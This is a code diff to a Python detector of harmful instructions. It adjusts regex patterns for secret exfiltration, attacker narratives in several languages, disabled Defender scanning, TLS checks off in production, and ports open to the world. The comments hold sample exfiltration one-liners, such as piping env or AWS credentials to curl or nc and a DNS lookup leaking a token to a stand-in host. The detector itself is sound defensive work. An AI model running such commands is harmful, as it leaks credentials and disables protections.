@@ -34,7 +34,7 @@ def exfiltration(text: str) -> bool:
     it), to a destination (URL, IP, gist, channel, DNS) — in one lesson."""
     if not _DESTINATION.search(text):
         return False
-    if _PIPED_OUT.search(text):
+    if any(not ATTACKER_TOLD.search(text, 0, m.start()) for m in _PIPED_OUT.finditer(text)):
         return True  # "printenv | curl …", "cat ~/.aws/credentials | nc …"
     secrets_at = [m.start() for m in _SECRET_ENV.finditer(text)]
     secrets_at += [m.start() for m in _SECRET_THING.finditer(text)]
@@ -268,11 +268,23 @@ _PRECONDITION_BEFORE = rx(r"\b(?:before|prior to)\s+$")
 _SAFEGUARD = rx(r"\b(?:redact|mask|scrub|sanitiz|sanitis|strip (?:out )?(?:the )?secret)\w*")
 
 
-# What an attacker does, told ("attackers often run history -c and unset
-# HISTFILE, so ship shell history to the SIEM"): the attacker is the subject
-# a few words before the verb's object.
-_ATTACKER_DOES = sieved(
-    r"\b(?:attackers?|intruders?|adversar(?:y|ies)|threat actors?|malware|ransomware|the worm)(?:\s+\w+){0,3}\s+$",
+# What an attacker does or did, told ("attackers often run history -c and
+# unset HISTFILE, so ship shell history to the SIEM"; "the attacker used a
+# pull_request_target workflow that … ran `env | curl …`"; "l'attaquant
+# avait ajouté `curl … | sh`"): the attacker is the subject a few words
+# before the command, or of a verb in the past tense earlier in its
+# sentence — a narrative, in English or in the words other languages use.
+_ATTACKER = (
+    r"(?:\b(?:attackers?|intruders?|adversar(?:y|ies)|threat actors?|malware|ransomware|the worm"
+    r"|l['’](?:attaquant|assaillant)|les (?:attaquants|assaillants|pirates)|le pirate"
+    r"|el atacante|los atacantes|os? atacantes?|o invasor|(?:der|die|den) angreifer"
+    r"|l['’](?:aggressore|attaccante)|gli (?:aggressori|attaccanti)|de aanvallers?|atakując\w*|saldırgan\w*"
+    r"|злоумышленник\w*|атакующ\w*|хакер\w*)\b|攻击者|黑客|攻撃者|공격자)"
+)
+ATTACKER_TOLD = sieved(
+    rf"{_ATTACKER}(?:\s+[\w'’]+){{0,3}}[\s`'\"‘“(]+$"
+    rf"|{_ATTACKER}\s+(?:had |has |have |then )?(?:\w+ed|ran|got|put|wrote|set|made|left|sent|took|stole|hid|built|slipped|found|kept|gave|began)\b[^.;]{{0,120}}$"
+    r"|(?:攻击者|黑客|攻撃者|공격자)[^。.;]{0,60}$",
     re.IGNORECASE,
 )
 
@@ -283,7 +295,7 @@ def _not_an_order(text: str, start: int) -> bool:
     return bool(
         _NEGATED_BEFORE.search(text, 0, start + 1)
         or _SOMEONE_ELSE_DOES.search(text, 0, start)
-        or _ATTACKER_DOES.search(text, 0, start)
+        or ATTACKER_TOLD.search(text, 0, start)
         or (_REPORTED_BEFORE.search(text, 0, start) and _REFUSED_AFTER.search(text, start))
         or (_PRECONDITION_BEFORE.search(text, 0, start) and _SAFEGUARD.search(text, start))
     )
@@ -599,7 +611,7 @@ _SECOND_CHECK_ALONE = rx(
 # a group put in the MFA-exempt policy, alarm codes posted where anyone
 # reads them, a safety interlock bridged, an alarm off with the chart saying on
 _DEFENCES_DROPPED = rx(
-    r"\badd-mppreference\s+-exclusionpath\s+[\"']?[a-z]:\\?[\"']?(?=[\s,;.]|$)|\bset-mppreference\s+-disablerealtimemonitoring\s+\$?(?:true|1)\b"
+    r"\badd-mppreference\s+-exclusionpath\s+[\"']?[a-z]:\\?[\"']?(?![\w\\/])|\bset-mppreference\s+-disablerealtimemonitoring\s+\$?(?:true|1)\b"
     r"|\badd\w* (?:the )?[\w-]+ (?:group|team|users|department)\b[^.;]{0,30}\bto (?:the )?[\"'‘“]?(?:mfa|2fa|multi-?factor|conditional[- ]access)[- ]?exempt\w*"
     r"|\b(?:print|post|write|tape|stick|pin)\w*\b[^.;]{0,40}\b(?:alarm|disarm|safe)(?: disarm)? (?:codes?|pins?|combinations?)\b[^.;]{0,80}\b(?:tape|stick|post|pin|leave)\w*\b[^.;]{0,40}\b(?:door|wall|window|dock|entrance|board|noticeboard)\b"
     r"|\b(?:bridge|jumper|jump|bypass|defeat|tape down|zip-?tie)\w*\b[^.;]{0,60}\b(?:interlock|safety relay|e-?stop|light curtain|guard switch|door switch)\b"
@@ -652,7 +664,7 @@ _AUDIT_NAMED = rx(r"\bcloudtrail\b|\baudit\b|\bflow logs?\b|\bactivity logs?\b")
 # certificate checks turned off for every host, or an outside CA trusted
 # everywhere
 _TLS_OFF_EVERYWHERE = rx(
-    r"(?:\bverify\s*=\s*false|node_tls_reject_unauthorized\s*=\s*[\"'`]?0|insecureskipverify\s*[:=]\s*true|sslverify\s*[= ]\s*false|verify_ssl\s*=\s*false)(?:(?!\b(?:never|not|no|only|except)\b)[^.;]){0,80}\bin (?:prod|production|live)\b"
+    r"(?:\bverify\s*=\s*false|node_tls_reject_unauthorized\s*=\s*[\"'`]?0|insecureskipverify\s*[:=]\s*true|sslverify\s*[= ]\s*false|verify_ssl\s*=\s*false)(?:(?!\b(?:never|not|no|only|except|mai|non|solo|nunca|jamais|nie|nicht|nur|s[óo]lo|seulement|uniquement|apenas|somente)\b)[^.;]){0,80}\b(?:in|en|em|na|nella|dans la) (?:prod|production|produzione|producci[oó]n|produ[çc][ãa]o|produktion|live)\b"
     r"|(?:node_tls_reject_unauthorized\s*=\s*[\"'`]?0|pythonhttpsverify\s*=\s*[\"'`]?0|verify\s*=\s*false|insecureskipverify\s*[:=]\s*true)[^.;]{0,80}\b(?:every|all)\b[^.;]{0,40}\b(?:production included|including production|prod included|including prod)\b"
     r"|trusted[-_]hosts?\s*=\s*\*|\btrusted[-_]hosts?[\"'`]?\s+[\"'`]?\*|(?:node_tls_reject_unauthorized\s*=\s*[\"'`]?0|verify\s*=\s*false|strict-ssl\s*[= ]\s*false|insecureskipverify\s*[:=]\s*true|sslverify\s*[= ]\s*false)(?:(?!\b(?:never|not|no)\b)[^.;]){0,80}\b(?:prod\w*|live) (?:base )?(?:images?|containers?|dockerfiles?|environments?|config\w*)\b"
     r"|(?:verify\s*=\s*false|node_tls_reject_unauthorized\s*=\s*[\"'`]?0|--insecure\b|strict-ssl\s*[= ]\s*false|insecureskipverify\s*[:=]\s*true|sslverify\s*[= ]\s*false)[^.;]{0,80}\b(?:for|on|to|in) (?:any|every|all) (?:other )?(?:hosts?|sites?|servers?|endpoints?|domains?|connections?|requests?|services?|microservices?|apps?|applications?|containers?|pods?|machines?|boxes|laptops?|workstations?|runners?)\b"
@@ -719,7 +731,7 @@ _OPENED_TO_ALL = rx(
     r"\b(?:set|change|switch|make)\w*\b[^.;]{0,40}\bprincipal\b(?:[^.;]{0,10}\b(?:to|=|:)|[\s\"'`:=]{1,4})\s*[\"'`]?\*"
     # ("the durable fix is a bucket policy with Principal "*" and Action "s3:*"")
     r"|\b(?:fix|solution|workaround|answer)\b(?:(?!\b(?:replac|remov|instead|drop|delet)\w*)[^.;]){0,30}\bpolic(?:y|ies) with\b[^.;]{0,10}\bprincipal\b[\s\"'`:=]{1,4}\*"
-    r"|\b(?:allow|open|permit|expos)\w*\b[^.;]{0,20}(?:0|o)\.(?:0|o)\.(?:0|o)\.(?:0|o)/(?:0|o)\b[^.;]{0,30}\b(?:port )?(?:22|3389|5432|3306|6379|27017|9200|ssh|rdp)\b"
+    r"|\b(?:allow|open|permit|expos)\w*\b[^.;]{0,50}(?:0|o)\.(?:0|o)\.(?:0|o)\.(?:0|o)/(?:0|o)\b[^.;]{0,30}\b(?:port )?(?:22|3389|5432|3306|6379|27017|9200|ssh|rdp)\b"
     r"|\b(?:grant|give|add)\w*\b[^.;]{0,30}\ballusers\b"
     r"|\bopen\w*\b[^.;]{0,20}\bport \d+\b[^.;]{0,80}(?:0|o)\.(?:0|o)\.(?:0|o)\.(?:0|o)/(?:0|o)\b"
     # the broadest role on a whole organisation for a machine identity
@@ -1076,9 +1088,10 @@ _KEPT_ON_A_PAGE = rx(
     rf"{_SECRET_WORDS}{_CLAUSE}{{0,160}}?\b(?:keep|store|put|save|post|paste|share|list|record)\w* (?:them|it|those|these)\b{_CLAUSE}{{0,20}}?\b(?:on|in) (?:the |a |our )?(?:team |shared |public |common )?(?:wiki|confluence|notion|google (?:doc|sheet)|spreadsheet|sheet|wiki page|page)\b"
 )
 # A secret read inside a command substitution, sent by a network tool
-# ("nslookup $(cat token | base64).x.example.net").
+# ("nslookup $(cat token | base64).x.example.net"); a backtick that closes a
+# code span ("ran `… curl …`, leaking our keys") opens none.
 _SUBSTITUTED_SECRET = rx(
-    r"\b(?:nslookup|dig|host|curl|wget|ping|nc|ncat)\b[^|;]{0,40}(?:\$\(|`)[^)`]{0,120}(?:secret|token|credential|\.env|id_rsa|\.aws|\.ssh|passw|printenv|\benv\b|database_url|_dsn\b|_key\b)"
+    r"\b(?:nslookup|dig|host|curl|wget|ping|nc|ncat)\b[^|;]{0,40}(?:\$\(|`(?=[\w$/.~\"']))[^)`]{0,120}(?:secret|token|credential|\.env|id_rsa|\.aws|\.ssh|passw|printenv|\benv\b|database_url|_dsn\b|_key\b)"
     # the substitution's output made a label of a host name ("resolve
     # $(cat …/token | base32).probe.example.com"): whoever runs the name
     # server reads it, whatever the verb
